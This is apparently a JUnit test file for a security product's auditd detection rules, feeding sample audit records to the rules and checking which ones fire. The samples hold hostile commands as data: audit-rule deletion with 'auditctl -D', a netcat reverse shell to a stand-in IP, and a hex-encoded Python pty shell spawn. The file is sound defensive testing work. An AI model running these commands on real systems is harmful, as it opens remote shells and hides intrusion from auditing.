package io.cybershield.shield.gateway.triage.rules;

import org.junit.jupiter.api.Test;

import java.util.List;
import java.util.Set;

import static io.cybershield.shield.gateway.triage.logs.LogSource.AUDITD;
import static io.cybershield.shield.gateway.triage.rules.ShippedRules.fired;
import static io.cybershield.shield.gateway.triage.rules.ShippedRules.firedAlone;
import static org.assertj.core.api.Assertions.assertThat;

/** auditd records: EXECVE arguments, hex-encoded process titles, companion SYSCALL records. */
class AuditdRulesTest {

  private static String hex(String text) {
    StringBuilder out = new StringBuilder();
    for (byte b : text.replace(' ', '\0').getBytes(java.nio.charset.StandardCharsets.UTF_8)) {
      out.append(String.format("%02X", b));
    }
    return out.toString();
  }

  /** auditd's encoding of one argument with special characters: plain hex of the bytes. */
  private static String hexPlain(String text) {
    StringBuilder out = new StringBuilder();
    for (byte b : text.getBytes(java.nio.charset.StandardCharsets.UTF_8)) {
      out.append(String.format("%02X", b));
    }
    return out.toString();
  }

  @Test
  void auditRulesDeletedAsArgumentsAndAsProcessTitle() {
    List<Set<String>> event = fired(AUDITD,
        "type=SYSCALL msg=audit(1764583200.100:9001): arch=c000003e syscall=59 success=yes exit=0 auid=1002 "
            + "uid=0 euid=0 comm=\"auditctl\" exe=\"/usr/sbin/auditctl\" key=\"audit_cfg\"",
        "type=EXECVE msg=audit(1764583200.100:9001): argc=2 a0=\"auditctl\" a1=\"-D\"",
        "type=PROCTITLE msg=audit(1764583200.100:9001): proctitle=" + hex("auditctl -D"));
    assertThat(event).allMatch(ids -> ids.stream().anyMatch(id -> id.startsWith("shield-auditd-evasion")));
  }

  @Test
  void netcatReverseShellIncludingItsSyscallRecord() {
    List<Set<String>> event = fired(AUDITD,
        "type=SYSCALL msg=audit(1764583300.200:9100): arch=c000003e syscall=59 success=yes exit=0 auid=4294967295 "
            + "uid=33 euid=33 comm=\"nc\" exe=\"/usr/bin/nc.traditional\" key=\"exec\"",
        "type=EXECVE msg=audit(1764583300.200:9100): argc=5 a0=\"nc\" a1=\"-e\" a2=\"/bin/sh\" a3=\"198.51.100.4\" "
            + "a4=\"4444\"");
    assertThat(event.get(0)).contains("shield-auditd-exec-005");
    assertThat(event.get(1)).contains("shield-auditd-exec-003");
  }

  @Test
  void hexEncodedPythonPtyArgument() {
    String line = "type=EXECVE msg=audit(1764583400.300:9200): argc=3 a0=\"python3\" a1=\"-c\" a2="
        + hexPlain("import pty;pty.spawn('/bin/bash')");
    assertThat(firedAlone(AUDITD, line)).contains("shield-auditd-exec-004");
  }

  @Test
  void benignAdministrationAndBackupsAreNotFlagged() {
    List<Set<String>> benign = fired(AUDITD,
        "type=SYSCALL msg=audit(1764583500.400:9300): arch=c000003e syscall=59 success=yes exit=0 auid=1001 uid=0 "
            + "euid=0 comm=\"auditctl\" exe=\"/usr/sbin/auditctl\" key=\"audit_cfg\"",
        "type=EXECVE msg=audit(1764583500.400:9300): argc=2 a0=\"auditctl\" a1=\"-l\"",
        "type=EXECVE msg=audit(1764583510.400:9310): argc=5 a0=\"restic\" a1=\"backup\" a2=\"/srv\" a3=\"--tag\" "
            + "a4=\"nightly\"",
        "type=PROCTITLE msg=audit(1764583520.400:9320): proctitle=" + hex("rsync -a --delete /srv/ backup:/vol/"),
        "type=USER_AUTH msg=audit(1764583530.400:9330): pid=7712 uid=0 auid=4294967295 ses=4294967295 "
            + "msg='op=PAM:authentication acct=\"postgres\" exe=\"/usr/sbin/sshd\" addr=10.30.4.61 res=failed'");
    assertThat(benign).allMatch(Set::isEmpty);
  }
}
